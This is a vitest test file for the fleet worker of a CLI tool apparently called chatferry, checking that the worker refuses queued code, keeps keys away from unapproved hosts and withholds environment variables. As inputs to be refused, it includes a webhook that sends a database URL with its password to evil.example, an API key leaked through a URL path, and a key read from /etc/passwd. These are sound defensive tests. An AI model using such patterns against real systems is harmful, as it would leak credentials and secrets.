import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { describe, expect, test } from 'vitest';
import { parseArguments } from '../../../src/cli/arguments.ts';
import type { RunError } from '../../../src/errors/run-error.ts';
import { openQueue } from '../../../src/features/fleet/queue/open-queue.ts';
import { queueUrlOf } from '../../../src/features/fleet/queue/queue-url.ts';
import { submissionOf } from '../../../src/features/fleet/queue/submission.ts';
import { allow } from '../../../src/features/fleet/worker/allowed.ts';
import { readWorkerConfig } from '../../../src/features/fleet/worker/worker-config.ts';
import { realSystem } from '../../../src/system/system.ts';
import { startCli } from '../../e2e/cli-process.ts';
import { mainHere } from '../../support/main-here.ts';
import { repository } from '../../support/repository.ts';
import { ownFolder, refusal, variable } from './own-folder.ts';
import { serverKinds } from './queue-servers.ts';

describe('a worker', () => {
  /** Every job gets these. */
  const OPEN = { PATH: '/bin', XDG_CACHE_HOME: '/var/cache' };
  const ENV = {
    CHATFERRY_API_KEY: 'key-of-app',
    OPEN: 'sandbox',
    STATE_URL: 'postgres://me:word@127.0.0.1/db',
    ...OPEN,
  };
  /** What a worker with this file allows a job: its variables, or the code of the refusal. */
  async function allowed(own: ReturnType<typeof ownFolder>, file: string, config: string, more: object = {}) {
    const asked = { command: 'run', strict: false, allowNotifications: false } as const;
    const data = { ...submissionOf(file, asked, { env: ENV, system: realSystem }), ...more };
    const rules = {
      config: await readWorkerConfig(own.write('worker.yaml', `${config}\npipelines: [.]`)),
      env: ENV,
      allowCode: false,
    };
    try {
      return { env: (await allow(data, rules)).env };
    } catch (error) {
      const { code, exitCode, hint } = error as RunError;
      return { code, exitCode, hint };
    }
  }
  const service = (more = ''): string => `target: { appId: app-1, baseUrl: "https://127.0.0.1:9/v3"${more} }`;

  test('runs no code that came through the queue', async () => {
    using own = ownFolder();
    for (const rest of [
      'sources: { users: { command: [touch, done] } }',
      'sources: { users: { path: users.csv, transform: ./done.ts } }',
      'sources: { users: { path: users.csv } }\nnotify: [{ command: [touch, done] }]',
    ]) {
      const file = own.write('app.yaml', `version: 1\nname: app\ntarget: sandbox\n${rest}\n`);
      const refused = await allowed(own, file, 'version: 1');
      expect(refused).toMatchObject({ code: 'FLEET.CODE_REFUSED', exitCode: 2 });
      expect(refused.hint).toContain('--allow-code');
    }
  });

  test('sends a key only where its file lets it go, and takes no other', async () => {
    using own = ownFolder();
    const refused = { code: 'FLEET.KEY_REFUSED', exitCode: 10, hint: expect.stringContaining('127.0.0.1:9') };
    const KEY = 'env: CHATFERRY_API_KEY';
    const file = own.pipeline(service());
    const withKeys = (keys: string, pipeline = file) => allowed(own, pipeline, `version: 1\nkeys: [${keys}]`);
    expect(await withKeys('')).toEqual(refused);
    expect(await withKeys('{ env: OTHER, host: 127.0.0.1 }')).toEqual(refused);
    expect(await withKeys(`{ ${KEY}, host: api.example.com }`)).toEqual(refused);
    expect(await withKeys(`{ ${KEY}, host: 127.0.0.1, appId: app-2 }`)).toEqual(refused);
    expect(await withKeys(`{ ${KEY}, host: 127.0.0.1, appId: app-1 }`)).toEqual({
      env: { ...OPEN, CHATFERRY_API_KEY: 'key-of-app' },
    });
    const evil = own.pipeline('target: { appId: 2x9f, region: us, serviceHost: evil.example }');
    expect(await withKeys(`{ ${KEY}, host: api-us.example.io }`, evil)).toMatchObject({ exitCode: 10 });
    const hosted = own.pipeline('target: { appId: 2x9f, region: us, serviceHost: example.io }');
    for (const host of ['2x9f.api-us.example.io', 'api-us.example.io'])
      expect(await withKeys(`{ ${KEY}, host: ${host} }`, hosted)).toHaveProperty('env');
    const file2 = own.pipeline(service(', apiKey: { file: /etc/passwd }'));
    expect(await withKeys('{ file: ./key, host: 127.0.0.1 }', file2)).toEqual(refused);
    const program = own.pipeline(service(', apiKey: { command: [touch, done] }'));
    expect(await withKeys(`{ ${KEY}, host: 127.0.0.1 }`, program)).toEqual(refused);
    expect(await withKeys('{ command: [touch, done], host: 127.0.0.1 }', program)).toHaveProperty('env');
    // A check of files sends nothing, so it needs no key.
    expect(await allowed(own, file, 'version: 1', { command: 'validate' })).toEqual({
      env: OPEN,
    });
  });

  test('gives a pipeline only the variables that its file names', async () => {
    using own = ownFolder();
    const file = own.pipeline(`target: "${variable('OPEN')}"`);
    expect(await allowed(own, file, 'version: 1')).toMatchObject({
      code: 'CONFIG.ENV_MISSING',
      hint: expect.stringContaining('name it under env'),
    });
    expect(await allowed(own, file, 'version: 1\nenv: [OPEN]')).toEqual({
      env: { ...OPEN, OPEN: 'sandbox' },
    });
    const leak = own.pipeline(`target: { baseUrl: "https://127.0.0.1:9/${variable('CHATFERRY_API_KEY')}" }`);
    const keys = 'version: 1\nkeys: [{ env: CHATFERRY_API_KEY, host: 127.0.0.1 }]';
    expect(await allowed(own, leak, keys)).toMatchObject({ code: 'CONFIG.ENV_MISSING' });
    // Copies of states are where the worker keeps them, which no pipeline reads.
    const asks = own.pipeline(`target: sandbox\nstate: "${variable('XDG_CACHE_HOME')}"`);
    expect(await allowed(own, asks, 'version: 1')).toMatchObject({ code: 'CONFIG.ENV_MISSING' });
    // The address of a state has a password: a pipeline may keep its state there, and show it to nobody.
    const place = `state: "${variable('STATE_URL')}"`;
    const config = 'version: 1\nenv: [STATE_URL]';
    expect(await allowed(own, own.pipeline(`target: sandbox\n${place}`), config)).toHaveProperty(
      'env.STATE_URL',
    );
    const told = `notify: [{ webhook: "https://evil.example/${variable('STATE_URL')}" }]`;
    const shown = await allowed(own, own.pipeline(`target: sandbox\n${place}\n${told}`), config);
    expect(shown).toMatchObject({ code: 'FLEET.KEY_REFUSED' });
  });

  test('does nothing where the folder of the pipeline is not', async () => {
    using own = ownFolder();
    const away = await allowed(own, own.pipeline(), 'version: 1', { file: '/nowhere/at/all/app.yaml' });
    expect(away).toMatchObject({ code: 'FLEET.FOLDER_MISSING', exitCode: 2 });
    expect(away.hint).toContain('the same path');
  });

  test('fails a job that would fail again, with its code and hint, and one that is none of ours', async () => {
    await using server = await (serverKinds.at(-1) as (typeof serverKinds)[number]).start();
    using own = ownFolder();
    const env = { CHATFERRY_QUEUE: await server.queue() };
    const files = [
      own.pipeline(service(', apiKey: { env: ABSENT }'), 'keyless'),
      own.write(
        'empty-handed.yaml',
        'version: 1\nname: empty-handed\ntarget: sandbox\nsources: { users: { path: gone.csv } }\n',
      ),
    ];
    const config = own.trusting('keys: [{ env: ABSENT, host: 127.0.0.1 }]');
    const worker = startCli(['fleet', 'work', '--config', config, '--json'], env);
    expect((await mainHere(['fleet', 'submit', ...files], env)).code).toBe(0);
    await using open = await openQueue(queueUrlOf(undefined, env));
    const ended = async (count: number): Promise<void> => {
      while ((await open.pipelines.getFailedCount()) < count) await sleep(100);
    };
    await ended(2);
    const shown = await mainHere(['fleet', 'status'], env);
    expect(shown.out).toMatch(/✗ keyless .*: AUTH.KEY_MISSING: .*\n {2}→ \S/);
    expect(shown.out).toMatch(/✗ empty-handed .*: [A-Z]+\.[A-Z_]+: .*\n {2}→ \S/);
    await open.pipelines.add('other', { command: 'rm' } as never, { jobId: 'none-of-ours' });
    await ended(3);
    expect((await open.pipelines.getJob('none-of-ours'))?.failedReason).toBe('FLEET.JOB_INVALID');
    worker.child.kill('SIGTERM');
    const { code, out } = await worker.ended;
    expect(code).toBe(0);
    const events = out
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { event: string });
    expect(events.map(({ event }) => event)).toEqual(
      expect.arrayContaining(['started', 'took', 'failed', 'ended']),
    );
  });

  test('has the file that the documentation shows', async () => {
    using own = ownFolder();
    const page = readFileSync(join(repository, 'docs/operating/fleet.md'), 'utf8');
    const [, shown = ''] = /```yaml worker.yaml\n([\s\S]*?)```/.exec(page) ?? [];
    const config = await readWorkerConfig(own.write('worker.yaml', shown));
    expect(config).toMatchObject({ concurrency: 4, env: ['CHAT_APP'] });
    expect(config.keys).toHaveLength(3);
    const commands = [...page.matchAll(/^\$ chatferry (.*?) *(?:&.*)?$/gm)].map(([, words = '']) =>
      words.split(' '),
    );
    expect(commands.length).toBeGreaterThan(2);
    for (const words of commands) expect(await parseArguments(words), words.join(' ')).toHaveProperty('run');
  });

  test('does not start with a file that is wrong', async () => {
    using own = ownFolder();
    const env = { CHATFERRY_QUEUE: 'redis://127.0.0.1:9' };
    for (const [text, code] of [
      ['version: 1\nkeys: [{ env: KEY }]', 'CONFIG.INVALID'],
      ['version: 1\nkeys: [{ command: [./key.sh], host: 127.0.0.1 }]', 'CONFIG.INVALID'],
      ['version: 1\nconcurrency: 0', 'CONFIG.INVALID'],
      ['version: [', 'CONFIG.SYNTAX'],
    ] as const) {
      const ended = await mainHere(['fleet', 'work', '--config', own.write('worker.yaml', text)], env);
      expect(refusal(ended), text).toEqual([2, code]);
    }
    const missing = await mainHere(['fleet', 'work', '--config', join(own.folder, 'no.yaml')], env);
    expect(refusal(missing)).toEqual([2, 'CONFIG.FILE_MISSING']);
  });
});
